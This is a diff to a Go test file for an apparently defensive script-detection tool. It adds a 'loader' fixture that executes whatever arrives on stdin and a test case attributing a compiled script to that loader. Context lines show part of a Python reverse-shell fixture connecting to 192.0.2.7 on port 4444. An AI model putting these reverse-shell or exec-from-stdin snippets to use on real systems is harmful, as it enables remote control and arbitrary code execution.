@@ -35,6 +35,12 @@ s.connect(("192.0.2.7", 4444))  # evil
 os.dup2(s.fileno(), 0)
 `
 
+// loader runs what it is given.
+const loader = `import sys
+password = "Xk29fj3kd02ldk3"
+exec(sys.stdin.read())
+`
+
 func judged(t *testing.T, s capture.Script, w workload.Workload) detect.Result {
 	t.Helper()
 	text := normalize.Normalize(s.Text)
@@ -55,11 +61,19 @@ func TestGoldenFindings(t *testing.T) {
 	command := script(4712, capture.Command, hostile)
 	command.Process.Args = []string{"python3", "-c", hostile}
 	stdin := script(4713, capture.Stdin, hostile)
+	compiled := script(4714, capture.Compiled, hostile)
+	compiled.Parent = capture.Sum([]byte(loader))
+	by := script(4714, capture.File, loader)
+	by.Path = "/srv/load.py"
+	ofCompiled := judged(t, compiled, inPod)
+	ofCompiled.CompiledBy = &by
 	bin := binary.File{SHA256: strings.Repeat("a", 64), Size: 14568}
 	for name, r := range map[string]detect.Result{
 		"file":  judged(t, file, inPod),
 		"c":     judged(t, command, inPod),
 		"stdin": judged(t, stdin, workload.Workload{Node: "node-1"}),
+
+		"compiled": ofCompiled,
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
